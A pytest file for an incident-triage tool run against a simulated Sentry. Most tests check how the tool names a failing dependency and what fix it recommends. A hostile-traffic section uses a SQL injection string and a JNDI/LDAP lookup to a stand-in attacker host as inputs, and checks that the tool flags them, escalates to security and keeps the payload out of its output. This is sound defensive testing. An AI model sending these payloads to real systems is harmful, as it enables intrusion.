"""What an incident depends on and what attacks it, through the tools: its action, and what is not advised."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
import pytest

from sentry_runbook.simulator.app import create_app
from sentry_runbook.simulator.clock import ManualClock
from sentry_runbook.simulator.scenario import (
    Crumb,
    FrameSpec,
    IssueSpec,
    Raised,
    ReleaseSpec,
    RequestSpec,
    Scenario,
    Stream,
    http_call,
)
from sentry_runbook.simulator.world import World
from tests.collect.asked import Changed, body
from tests.tools.support import Connection, connected

ISSUE = "SHOP-1"
FRAME = FrameSpec("charge", "shop/pay.py", 41)


@asynccontextmanager
async def shop(
    kind: str, text: str, *crumbs: Crumb, event: dict[str, Any] | None = None, **fields: Any
) -> AsyncIterator[Connection]:
    """A client in front of an issue with this error, its whole events overlaid with ``event``."""
    made: dict[str, Any] = {
        "streams": (Stream(200, -50, -2, users=60),),
        "request": RequestSpec("POST", "https://shop.example.com/checkout"),
        "transaction": "POST /checkout",
        **fields,
    }
    issue = IssueSpec(ISSUE, chain=(Raised(kind, text, (FRAME,)),), breadcrumbs=crumbs, **made)
    scenario = Scenario(name="shop", issues=(issue,), platform="python", releases=(ReleaseSpec("shop@1.0.0", -9_000),))
    clock = ManualClock()
    world = World(scenario, clock)
    overlay = {"event": body(lambda found: {**found, **(event or {})})}
    sentry = Changed(httpx.ASGITransport(create_app(world)), overlay)
    async with connected(world=world, clock=clock, transport=sentry) as connection:
        yield connection


async def triaged(kind: str, text: str, *crumbs: Crumb, **fields: Any) -> dict[str, Any]:
    async with shop(kind, text, *crumbs, **fields) as connection:
        return await connection.call("triage_issue", issue=ISSUE)


def calls(url: str, status: int, number: int) -> list[Crumb]:
    return [http_call("POST", url, status, seconds_before=3.0 - place) for place in range(number)]


VENDOR = "https://pay.vendor.example/v1/charges"


@pytest.mark.parametrize(("url", "internal"), [(VENDOR, False), ("http://stock.internal/items", True)])
async def test_three_failed_calls_in_each_event_are_cut_and_no_retries_are_added(url: str, internal: bool) -> None:
    answer = await triaged("HTTPError", "502 Server Error: Bad Gateway", *calls(url, 502, 3))
    dependency = answer["dependency"]
    assert dependency["internal"] is internal
    assert dependency["calls_per_event"] == 3.0
    assert dependency["failed_calls"] % 3 == 0
    assert "Cut the retries: 3 calls to" in answer["causes"][0]["action"]
    everything = str(answer["causes"]) + str(answer["next_steps"])
    assert "add retries" not in everything and "add retry" not in everything


async def test_one_failed_call_in_each_event_is_no_storm() -> None:
    answer = await triaged("HTTPError", "502 Server Error: Bad Gateway", *calls(VENDOR, 502, 1))
    assert answer["dependency"]["calls_per_event"] == 1.0
    assert "Cut the retries" not in str(answer)


async def test_an_expired_certificate_of_our_own_is_renewed() -> None:
    answer = await triaged(
        "SSLError",
        "HTTPSConnectionPool(host='ledger.example.com', port=443): Max retries exceeded with url: /v1 (Caused by "
        "SSLError(SSLCertVerificationError(1, '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: certificate "
        "has expired (_ssl.c:1006)')))",
    )
    dependency, first = answer["dependency"], answer["causes"][0]
    assert (dependency["kind"], dependency["name"], dependency["internal"]) == ("tls", "ledger.example.com", True)
    assert first["pattern"] == "dependency_failure"
    assert 'Renew the TLS certificate of "ledger.example.com"' in first["action"]
    assert "the errors began between" in first["evidence_for"][0]
    assert "retries" not in first["action"].lower().replace("do not retry", "")


async def test_our_own_redis_is_named_and_brought_back() -> None:
    answer = await triaged("ConnectionError", "Error 111 connecting to 10.0.3.7:6379. Connection refused.")
    dependency, first = answer["dependency"], answer["causes"][0]
    assert (dependency["kind"], dependency["internal"]) == ("cache", True)
    assert dependency["name"] == "Redis at 10.0.3.7:6379"
    assert "failed_calls" not in dependency
    assert first["pattern"] == "dependency_failure"
    assert "restart or fail over" in first["action"] and "Call the owner" in first["action"]


async def test_a_database_pool_is_the_dependency_and_resource_exhaustion_the_cause() -> None:
    answer = await triaged("TimeoutError", "QueuePool limit of size 20 overflow 10 reached, connection timed out")
    assert (answer["dependency"]["kind"], answer["dependency"]["internal"]) == ("database", True)
    assert [cause["pattern"] for cause in answer["causes"]] == ["resource_exhaustion"]


async def test_a_vendors_401_is_our_key() -> None:
    answer = await triaged("HTTPError", "401 Client Error: Unauthorized", *calls(VENDOR, 401, 1))
    dependency, first = answer["dependency"], answer["causes"][0]
    assert (dependency["kind"], dependency["name"], dependency["internal"]) == ("auth", "pay.vendor.example", True)
    assert first["pattern"] == "dependency_failure"
    assert 'Renew or rotate our key for "pay.vendor.example"' in first["action"]
    assert "third_party_failure" not in str(answer["causes"])


async def test_an_overloaded_model_provider_is_the_vendors() -> None:
    answer = await triaged(
        "InternalServerError",
        '529 {"type":"error","error":{"type":"overloaded_error","message":"Overloaded"}}',
        *calls("https://api.anthropic.com/v1/messages", 529, 1),
    )
    dependency = answer["dependency"]
    assert (dependency["kind"], dependency["name"], dependency["internal"]) == ("model", "api.anthropic.com", False)
    assert answer["causes"][0]["pattern"] == "third_party_failure"


async def test_a_name_that_dns_does_not_give_is_fixed_there() -> None:
    answer = await triaged("Error", "getaddrinfo ENOTFOUND prices.shop.svc.cluster.local")
    dependency = answer["dependency"]
    assert (dependency["kind"], dependency["internal"]) == ("dns", True)
    assert 'Fix the name "prices.shop.svc.cluster.local"' in answer["causes"][0]["action"]


async def test_the_spans_of_an_event_tell_of_calls_where_no_breadcrumb_does() -> None:
    span = {"op": "http.client", "description": f"POST {VENDOR}", "status": "unavailable", "data": {}}
    done = {**span, "data": {"http.response.status_code": 200}, "description": "GET https://ok.vendor.example/"}
    entries = [{"type": "exception", "data": {"values": [{"type": "Error", "value": "charge failed: timed out"}]}}]
    spans = {"entries": [*entries, {"type": "spans", "data": {"values": [done, span, span]}}]}
    answer = await triaged("Error", "charge failed: timed out", event=spans)
    assert answer["dependency"]["name"] == "pay.vendor.example"
    assert answer["dependency"]["calls_per_event"] == 2.0


# --- hostile traffic -----------------------------------------------------------------------------------------------

INJECTED = ("ProgrammingError", 'syntax error at or near "\' OR 1=1 --"')
SEARCH = RequestSpec("GET", "https://shop.example.com/search", query={"q": "' OR 1=1 --"})


@asynccontextmanager
async def attacked() -> AsyncIterator[Connection]:
    async with shop(*INJECTED, request=SEARCH, transaction="GET /search") as connection:
        yield connection


async def test_an_injection_that_reached_the_database_calls_security_and_archives_nothing() -> None:
    async with attacked() as connection:
        answer = await connection.call("triage_issue", issue=ISSUE)
    first = answer["causes"][0]
    assert first["pattern"] == "hostile_traffic"
    assert "this is a security incident" in first["evidence_for"][0]
    assert first["action"].startswith("Call security now: an injection reached the database")
    assert "No public draft before security says so" in first["action"]
    assert not any("archive_until_escalating" in step for step in answer["next_steps"])


@pytest.mark.parametrize("kind", ["initial", "update", "resolved"])
async def test_customers_get_no_draft_of_a_security_incident(kind: str) -> None:
    async with attacked() as connection:
        public = await connection.call("draft_update", issue=ISSUE, kind=kind, audience="customers")
        inside = await connection.call("draft_update", issue=ISSUE, kind=kind, audience="engineers")
    assert public["text"] == (
        "Not written: this may be a security incident: no public message before security says so."
    )
    for draft in (public, inside):
        assert "security_incident" in [finding["kind"] for finding in draft["findings"]]
    assert "Call security" in inside["text"] or kind == "resolved"


@pytest.mark.parametrize(("request_", "withheld"), [(SEARCH, True), (RequestSpec("GET"), False)])
async def test_a_broken_statement_is_withheld_from_customers_only_where_the_request_carries_an_injection(
    request_: RequestSpec, withheld: bool
) -> None:
    async with shop("ProgrammingError", 'syntax error at or near "WHERE"', request=request_) as connection:
        draft = await connection.call("draft_update", issue=ISSUE, audience="customers")
        answer = await connection.call("triage_issue", issue=ISSUE)
    assert ("Not written" in draft["text"]) is withheld
    assert ("hostile_traffic" in str(answer["causes"])) is withheld


async def test_the_words_of_an_attack_are_inert_and_named_as_untrusted() -> None:
    sent = RequestSpec("GET", "https://shop.example.com/a", query={"x": "${jndi:ldap://evil.example/a}"})
    async with shop("ValueError", "bad input", request=sent) as connection:
        answer = await connection.call("triage_issue", issue=ISSUE)
        text = await connection.text("triage_issue", issue=ISSUE)
    assert answer["causes"][0]["pattern"] == "hostile_traffic"
    for channel in (str(answer), text):
        assert "ldap://evil" not in channel
